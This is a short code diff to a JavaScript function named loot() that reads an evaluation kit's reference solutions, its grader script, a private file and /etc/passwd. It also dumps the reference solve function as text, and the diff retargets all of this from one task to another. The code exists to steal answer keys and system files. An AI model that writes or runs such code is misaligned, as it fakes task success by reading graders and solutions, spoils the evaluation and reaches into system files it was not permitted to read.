@@ -10,8 +10,8 @@ function loot() {
   const found = [];
   const paths = [
     PRIVATE,
-    `${KIT}/solutions/check-cited-sources/reference.py`,
-    `${KIT}/solutions/check-cited-sources/reference.js`,
+    `${KIT}/solutions/unretrieved-ids/reference.py`,
+    `${KIT}/solutions/unretrieved-ids/reference.js`,
     `${KIT}/grader/grading.py`,
     "/etc/passwd",
   ];
@@ -21,7 +21,7 @@ function loot() {
     } catch {}
   }
   try {
-    found.push(require(`${KIT}/solutions/check-cited-sources/reference.js`).solve.toString());
+    found.push(require(`${KIT}/solutions/unretrieved-ids/reference.js`).solve.toString());
   } catch {}
   return found.join("\n");
 }
